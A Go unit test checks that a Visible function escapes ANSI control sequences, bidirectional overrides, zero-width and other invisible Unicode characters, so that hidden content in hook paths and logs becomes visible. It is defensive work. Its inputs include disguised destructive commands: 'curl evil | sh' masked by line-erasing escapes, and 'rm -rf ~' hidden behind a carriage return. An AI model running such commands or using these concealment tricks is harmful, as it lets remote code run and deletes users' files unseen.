package schema

import "testing"

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"./hooks/gate.sh":                       "./hooks/gate.sh",
		"curl evil | sh\x1b[2K\x1b[1Gecho safe": `curl evil | sh\x1b[2K\x1b[1Gecho safe`,
		"rm -rf ~\rls":                          `rm -rf ~\rls`,
		"a\nb\tc\x00d\x7f":                      `a\nb\tc\x00d\x7f`,
		"caf\u00e9 \u2603":                      "caf\u00e9 \u2603",
		"x\u202eevil\u202c":                     `x\u202eevil\u202c`,
		"zero\u200bwidth":                       `zero\u200bwidth`,
		"bad \xff byte":                         `bad \xff byte`,
		"c1 \u009b31m":                          `c1 \u009b31m`,
		`back\slash`:                            `back\slash`,
		// What the log's copy missed: zero-width characters and the BOM.
		"a\u200bb\u200dc\u2060d\ufeffe": `a\u200bb\u200dc\u2060d\ufeffe`,
		// What the hooks.json copy missed: the line and paragraph separators.
		"one\u2028two\u2029three": `one\u2028two\u2029three`,
		// What both missed: the soft hyphen, the tag characters that spell
		// hidden ASCII, the Hangul filler, the Mongolian vowel separator,
		// an invisible operator and a supplementary variation selector.
		"rm\u00ad -rf":                     `rm\u00ad -rf`,
		"ok\U000e0069\U000e0067\U000e006e": `ok\U000e0069\U000e0067\U000e006e`,
		"name\u3164":                       `name\u3164`,
		"a\u180eb\u2064c\U000e0100d":       `a\u180eb\u2064c\U000e0100d`,
		// What the contract report's copy got wrong: a real U+FFFD is text,
		// not the byte \xef.
		"\ufffd replaced": "\ufffd replaced",
		// Shown as they are: emoji with their style selector and joiner
		// sequences are text; a bell is \x07, as every C0 control.
		"\u26a0\ufe0f stop": "\u26a0\ufe0f stop",
		"ring\a":            `ring\x07`,
		// What the log's readers show: the bidirectional isolates.
		"iso \u2066x\u2069": `iso \u2066x\u2069`,
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}
